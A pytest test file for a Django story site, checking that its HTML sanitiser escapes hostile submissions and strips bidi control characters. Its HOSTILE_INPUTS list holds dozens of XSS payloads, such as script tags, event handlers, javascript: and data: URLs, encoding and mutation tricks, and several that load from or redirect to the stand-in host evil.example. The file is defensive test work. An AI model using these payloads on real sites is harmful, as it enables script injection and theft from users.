"""The hostile-input corpus: nothing a submitter writes is ever executed as HTML."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from django.test import Client

from stories.models import Story
from stories.sanitize import (
    ALLOWED_TAGS,
    PLACEHOLDER_WORDS,
    SPAN_CLASSES,
    render_highlights,
    render_inline,
    render_paragraphs,
)

HOSTILE_INPUTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab trick</a>',
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>body{display:none}</style>",
    '<p onclick="alert(1)">para</p>',
    '<strong onmouseover="alert(1)">bold</strong>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<form action="https://evil.example"><input name=x></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    "<img src=`x` onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "**<script>alert(1)</script>**",
    "*<img src=x onerror=alert(1)>*",
    "<unclosed <b>broken <i>markup",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    '<span class="redacted"><span class="visually-hidden">redacted: </span>forged</span>',
    '<span class="visually-hidden">hidden from sight</span>',
    '<span class="redacted" onclick="alert(1)">[PERSON 1]</span>',
    '<span class=redacted style="display:none">[ORG 1]</span>',
    "[PERSON 1]<script>alert(1)</script>[ORG 2]",
    '[PERSON 1" onmouseover="alert(1)] [ORG <b>1</b>]',
]

TAG = re.compile(r"<\s*/?\s*([a-zA-Z][a-zA-Z0-9]*)")
EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)


@pytest.mark.parametrize("hostile", HOSTILE_INPUTS)
def test_it_never_outputs_a_tag_outside_the_allow_list(hostile: str) -> None:
    html = str(render_paragraphs(f"Before\n\n{hostile}\n\nafter"))
    assert {tag.lower() for tag in TAG.findall(html)} <= ALLOWED_TAGS


ATTRIBUTE = re.compile(r"<([a-z]+)\s+([a-z-]+)\s*=\s*\"([^\"]*)\"")
OURS = {("span", "class", name) for name in SPAN_CLASSES}


def rendered_every_way(text: str) -> list[str]:
    """``text`` through each renderer of the sanitiser: paragraphs, one line, search excerpt."""
    marked = f"\ue000{text}\ue001 and {text}"
    return [
        str(render_paragraphs(text)),
        str(render_inline(text)),
        *map(str, render_highlights([marked, text], "\ue000", "\ue001")),
    ]


@pytest.mark.parametrize("hostile", HOSTILE_INPUTS)
def test_it_never_outputs_an_attribute_or_an_event_handler(hostile: str) -> None:
    for html in rendered_every_way(hostile):
        assert not EVENT_HANDLER.search(html)
        # The one attribute that may come out is a class the sanitiser set itself.
        assert set(ATTRIBUTE.findall(html)) <= OURS, html
        assert not re.search(r"<[^>]*\sstyle\s*=", html)


@pytest.mark.parametrize("hostile", HOSTILE_INPUTS)
def test_a_span_typed_by_a_user_is_shown_as_text_never_trusted(hostile: str) -> None:
    for html in rendered_every_way(hostile):
        # Every span in the output is one the sanitiser made for a real placeholder.
        assert html.count('<span class="redacted">') == html.count("redacted: </span>")
        assert html.count("<span") == 2 * html.count('<span class="redacted">')
        if "<span" in hostile:
            assert "&lt;span" in html


def test_a_forged_redacted_span_is_escaped_and_a_real_placeholder_is_marked() -> None:
    html = str(render_paragraphs('<span class="redacted">Jonas</span> told [PERSON 1].'))
    assert html == (
        "<p>&lt;span class=&quot;redacted&quot;&gt;Jonas&lt;/span&gt; told "
        '<span class="redacted"><span class="visually-hidden">redacted: </span>person 1</span>.</p>'
    )


def test_every_kind_of_placeholder_reads_as_a_word_with_its_number() -> None:
    from moderation.redaction import KINDS

    assert set(PLACEHOLDER_WORDS) == set(KINDS)
    for kind, words in PLACEHOLDER_WORDS.items():
        html = str(render_inline(f"Before [{kind} 12] after"))
        assert f'<span class="visually-hidden">redacted: </span>{words} 12</span>' in html


@pytest.mark.parametrize(
    "text", ["[PERSON]", "[PERSON 0]", "[person 1]", "[NAME 1]", "[ORG 12345]"]
)
def test_brackets_that_are_not_a_placeholder_stay_as_written(text: str) -> None:
    assert str(render_inline(text)) == text


def test_it_shows_html_as_text_rather_than_removing_what_was_written() -> None:
    html = str(render_paragraphs("I typed <b>bold</b> & <script>x</script> by hand"))
    assert html == (
        "<p>I typed &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;x&lt;/script&gt; by hand</p>"
    )


def test_entities_are_shown_literally_not_decoded_into_markup() -> None:
    assert str(render_paragraphs("&lt;script&gt;")) == "<p>&amp;lt;script&amp;gt;</p>"


def test_it_makes_paragraphs_and_line_breaks() -> None:
    html = str(render_paragraphs("One\nline two\n\n\n  Two\r\n\r\nThree"))
    assert html == "<p>One<br>line two</p><p>Two</p><p>Three</p>"


def test_it_supports_light_formatting() -> None:
    html = str(render_paragraphs("This was **not** fine, *really*."))
    assert html == "<p>This was <strong>not</strong> fine, <em>really</em>.</p>"


def test_stray_asterisks_stay_as_text() -> None:
    assert str(render_paragraphs("2 * 3 * 4 and a*b")) == "<p>2 * 3 * 4 and a*b</p>"


def test_empty_text_renders_nothing() -> None:
    assert str(render_paragraphs("  \n\n ")) == ""


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", HOSTILE_INPUTS[:12])
def test_a_published_story_page_never_carries_the_hostile_markup(
    client: Client, make_story: Callable[..., Story], hostile: str
) -> None:
    story = make_story(title=hostile, what_happened=hostile, what_you_did=f"Then {hostile}")
    html = client.get(f"/stories/{story.slug}/").content.decode()
    main = html[html.index("<main") : html.index("</main>")]
    assert "<script" not in main.lower()
    assert "<img" not in main.lower() and "<svg" not in main.lower()
    assert not EVENT_HANDLER.search(main)
    feed = client.get("/").content.decode()
    assert "<script" not in feed.lower()


@pytest.mark.django_db
def test_bidi_controls_a_moderator_types_never_reach_a_published_title(
    make_submission, moderator
) -> None:
    from stories.lifecycle import approve_as_submitter, propose_submission

    submission = make_submission(
        public_title="The \u202egnissim\u202c chart\u2066",
        public_what_happened="A quarter was dropped\u200f from the \u2067chart\u2069.",
        moderator_message="Have a look\u202d.",
    )
    propose_submission(submission=submission, by=moderator)
    story = approve_as_submitter(submission=submission)
    story.refresh_from_db()
    assert story.title == "The gnissim chart"
    assert story.what_happened == "A quarter was dropped from the chart."


@pytest.mark.django_db
def test_bidi_controls_never_reach_a_published_story_through_an_edit(make_story) -> None:
    from django.contrib.auth.models import User

    from stories.lifecycle import edit_story

    editor = User.objects.create_superuser("root", password="a-long-password-1")
    story = make_story()
    edit_story(story=story, by=editor, changes={"title": "An \u202eedited\u202c title\u2067"})
    story.refresh_from_db()
    assert story.title == "An edited title"
